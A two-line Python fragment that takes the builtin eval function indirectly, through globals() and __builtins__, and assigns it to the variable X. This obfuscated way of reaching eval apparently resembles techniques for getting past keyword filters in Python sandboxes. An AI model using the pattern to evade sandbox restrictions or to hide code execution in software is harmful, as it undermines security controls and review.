b=globals()["__builtins__"]
X=(b if isinstance(b,dict) else b.__dict__)["eval"]